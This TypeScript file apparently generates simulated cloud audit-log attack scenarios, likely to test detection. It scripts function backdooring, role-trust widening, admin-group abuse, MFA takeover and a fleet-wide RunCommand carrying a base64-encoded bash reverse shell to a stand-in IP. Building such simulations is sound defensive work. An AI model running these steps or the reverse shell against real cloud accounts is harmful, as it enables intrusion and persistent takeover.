import type { Plot } from './history';
import { assumeRole, createKey, signIn } from './identities';
import { type Actor, rented, rentedAtHome, stsId } from './world';

/** Keys that do much on their own, so that no call of the attack is new by its name alone. */
export const BUSY = ['deploy', 'upload', 'watch', 'snapshot', 'session', 'release', 'scale', 'restart'];

/** Written after the first run: attacks on identities and rights that hide better. */
export const SECOND_IDENTITY_ATTACKS: Plot[] = [
  {
    name: 'poisoned-function',
    isAttack: true,
    kinds: ['persistence'],
    chores: BUSY,
    says: 'A function that the key deploys every week got new code, a layer and a timer from an address that never deployed.',
    tell: (stage) => {
      const { dice, team } = stage.world;
      const raid = stage
        .raid(-dice.int(2, 10), stage.thief({ ip: rentedAtHome(dice) }))
        .do('FC.ListFunctions')
        .do('FC.GetFunctionCode', { functionName: `${team}-api` });
      raid
        .do('FC.CreateLayerVersion', { layerName: 'requests' })
        .do(
          'FC.UpdateFunction',
          { functionName: `${team}-api` },
          { resources: { 'ACS::FC::Function': [`${team}-api`] } },
        );
      raid.do('FC.CreateTrigger', {
        functionName: `${team}-api`,
        triggerName: 't',
        triggerType: 'timer',
        triggerConfig: '{"cronExpression":"@every 10m","enable":true}',
      });
    },
  },
  {
    name: 'edited-trust',
    isAttack: true,
    kinds: ['persistence'],
    chores: BUSY,
    says: "From the business's host the trust of a role of the business was widened to an unknown account, whose session then read.",
    tell: (stage) => {
      const { dice, business, roleName, account } = stage.world;
      const raid = stage.raid(-dice.int(10, 40), business).do('Ram.GetRole', { RoleName: roleName });
      const principals = [`acs:ram::${account}:root`, `acs:ram::${dice.digits(16)}:root`];
      raid.do(
        'Ram.UpdateRole',
        {
          RoleName: roleName,
          NewAssumeRolePolicyDocument: JSON.stringify({
            Version: '1',
            Statement: [{ Effect: 'Allow', Action: 'sts:AssumeRole', Principal: { RAM: principals } }],
          }),
        },
        { resources: { 'ACS::RAM::Role': [roleName] } },
      );
      const outside: Actor = {
        type: 'assumed-role',
        userName: `${roleName}:z`,
        principalId: `${dice.digits(18)}:z`,
        accessKeyId: stsId(dice),
        ip: rented(dice),
        agent: 'ctk',
      };
      raid.wait(2).as(outside).do('Oss.ListBuckets').do('Rds.DescribeDBInstances').do('Kms.ListSecrets');
      stage.took('session', outside.accessKeyId);
    },
  },
  {
    name: 'group-ride',
    isAttack: true,
    kinds: ['privilege'],
    chores: BUSY,
    says: 'The key put its own user into the administrators and took it out again after it had used the power.',
    tell: (stage) => {
      const { dice, business, instances } = stage.world;
      const raid = stage
        .raid(-dice.int(2, 20), stage.thief({ ip: rentedAtHome(dice), agent: business.agent }))
        .do('Ram.ListGroups')
        .do('Ram.AddUserToGroup', { UserName: business.userName, GroupName: 'administrators' });
      raid
        .do('Ecs.ModifyInstanceAttribute', { InstanceId: instances[0] ?? '', Password: '****' })
        .do('Ram.RemoveUserFromGroup', { UserName: business.userName, GroupName: 'administrators' });
    },
  },
  {
    name: 'scoped-administrator',
    isAttack: true,
    kinds: ['privilege'],
    chores: BUSY,
    says: 'AdministratorAccess was granted through the resource directory service, where nobody looks, to the backup user, for whom a key was made.',
    tell: (stage) => {
      const { dice, backup, team, account } = stage.world;
      const raid = stage.raid(-dice.int(1, 9)).do('ResourceManager.ListResourceGroups');
      raid.do('ResourceManager.AttachPolicy', {
        PolicyName: 'AdministratorAccess',
        PolicyType: 'System',
        PrincipalName: `${backup.userName}@${team}.onaliyun.com`,
        PrincipalType: 'IMSUser',
        ResourceGroupId: account,
      });
      const key = createKey(raid, backup);
      raid
        .as({ ...key, ip: rented(dice) })
        .do('Sts.GetCallerIdentity')
        .do('Oss.ListBuckets');
      stage.open.push(backup.userName);
      stage.took('key', key.accessKeyId);
    },
  },
  {
    name: 'own-mfa',
    isAttack: true,
    kinds: ['console-takeover'],
    chores: BUSY,
    says: "The key's own user, who never had a password, got one and an MFA device of the thief, and signed in from abroad.",
    tell: (stage) => {
      const { dice, business, team } = stage.world;
      const raid = stage
        .raid(-dice.int(2, 12))
        .do(
          'Ims.GetLoginProfile',
          { UserPrincipalName: `${business.userName}@${team}.onaliyun.com` },
          { error: 'EntityNotExist.User.LoginProfile' },
        );
      raid.do('Ims.CreateLoginProfile', {
        UserPrincipalName: `${business.userName}@${team}.onaliyun.com`,
        PasswordResetRequired: 'false',
        Status: 'Active',
      });
      raid.do('Ims.CreateVirtualMFADevice', { VirtualMFADeviceName: dice.text(6) }).do('Ims.BindMFADevice', {
        UserPrincipalName: `${business.userName}@${team}.onaliyun.com`,
        SerialNumber: `acs:ram::1:mfa/${dice.text(6)}`,
      });
      raid.wait(1);
      signIn(raid, business, rented(dice), true);
      raid.do('Ecs.DescribeInstances').do('Oss.ListBuckets');
      stage.open.push(business.userName);
    },
  },
  {
    name: 'quiet-session',
    isAttack: true,
    kinds: ['command'],
    chores: BUSY,
    says: "In business hours, on the business's host, one more session of the usual role ran a command on every server, which that role never did.",
    tell: (stage) => {
      const { business, roleName, instances, leak, dice } = stage.world;
      const hours = (Math.floor(leak / 86_400_000) - 1) * 24 + 3 - leak / 3_600_000;
      const raid = stage.raid(hours, business);
      const session = assumeRole(raid, roleName, `job-${dice.text(6)}`);
      raid
        .as(session)
        .do('Ecs.DescribeInstances')
        .do(
          'Ecs.RunCommand',
          {
            Type: 'RunShellScript',
            Name: dice.text(6),
            CommandContent: Buffer.from('bash -i >& /dev/tcp/198.51.100.9/443 0>&1').toString('base64'),
            ...Object.fromEntries(instances.map((id, n) => [`InstanceId.${n + 1}`, id])),
          },
          { resources: { 'ACS::ECS::Instance': instances } },
        );
      raid.do('Ecs.DescribeInvocationResults').do('Ecs.DescribeInvocations');
      stage.took('session', session.accessKeyId);
    },
  },
];
